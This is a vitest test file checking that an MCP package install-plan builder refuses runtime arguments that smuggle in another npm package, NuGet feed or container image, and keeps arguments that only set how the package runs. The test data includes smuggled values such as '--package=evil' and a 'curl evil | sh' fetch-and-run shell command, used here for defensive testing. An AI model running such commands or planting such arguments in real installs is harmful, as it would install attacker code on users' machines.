import { describe, expect, it } from "vitest";
import type { Package } from "@/lib/manifest/schema";
import { buildInstallPlan } from "./plan";

const words = (...values: string[]): NonNullable<Package["runtimeArguments"]> => values.map((value) => ({ type: "positional", value }));
const named = (name: string, value?: string): NonNullable<Package["runtimeArguments"]>[number] => ({ type: "named", name, ...(value !== undefined && { value }) });

const PACKAGES = {
  npm: { registryType: "npm", identifier: "@acme/weather-mcp", version: "1.4.2" },
  nuget: { registryType: "nuget", identifier: "Acme.Weather", version: "1.4.2" },
  oci: { registryType: "oci", identifier: "ghcr.io/acme/weather:1.4.2" },
} as const;

function targetOf(kind: keyof typeof PACKAGES, runtimeArguments: Package["runtimeArguments"]) {
  const manifest = { $schema: "s", name: "com.acme/weather", description: "Weather", version: "1.4.2", packages: [{ ...PACKAGES[kind], transport: { type: "stdio" as const }, runtimeArguments }] };
  return buildInstallPlan({ manifest, digest: "sha256:00", status: "approved", tools: [] }).targets[0];
}

describe("runtime arguments", () => {
  it.each<[keyof typeof PACKAGES, string, Package["runtimeArguments"]]>([
    ["npm", "another package in front", words("evil")],
    ["npm", "another package after an option with its value", [named("--registry", "https://npm.acme.example"), ...words("evil")]],
    ["npm", "another package after an option without one", words("--offline", "evil")],
    ["npm", "another package by --package", [named("--package", "evil")]],
    ["npm", "another package by the beginning of --package", words("--pack=evil")],
    ["npm", "another package by -p among other letters", words("-qp", "evil")],
    ["npm", "a command of a shell", [named("-c", "curl evil | sh")]],
    ["npm", "another package by a default", [{ type: "positional", valueHint: "x", default: "--package=evil" }]],
    ["npm", "another package after the end of options", words("--", "evil")],
    ["nuget", "another tool in front", words("Evil.Tool")],
    ["nuget", "another feed", [named("--add-source", "https://evil.example/v3")]],
    ["oci", "another image in front", words("evil:1")],
    ["oci", "another image after an option without a value", words("--privileged", "evil:1")],
    ["oci", "another image after an option with its value", [named("--network", "host"), ...words("evil:1")]],
  ])("of %s are refused that start %s", (kind, _what, runtimeArguments) => expect(targetOf(kind, runtimeArguments)).toMatchObject({ reason: { code: "package-source" } }));

  it.each<[keyof typeof PACKAGES, Package["runtimeArguments"], string[]]>([
    ["npm", [...words("-y"), named("--loglevel", "error")], ["-y", "--loglevel", "error", "@acme/weather-mcp@1.4.2"]],
    ["nuget", words("--allow-roll-forward"), ["--allow-roll-forward", "Acme.Weather@1.4.2", "--yes"]],
    ["oci", [named("--network", "host"), named("-v", "/data:/data:ro")], ["run", "-i", "--rm", "--network", "host", "-v", "/data:/data:ro", "ghcr.io/acme/weather:1.4.2"]],
  ])("of %s that only choose how it runs are kept: %j", (kind, runtimeArguments, args) => expect(targetOf(kind, runtimeArguments)).toMatchObject({ args }));
});
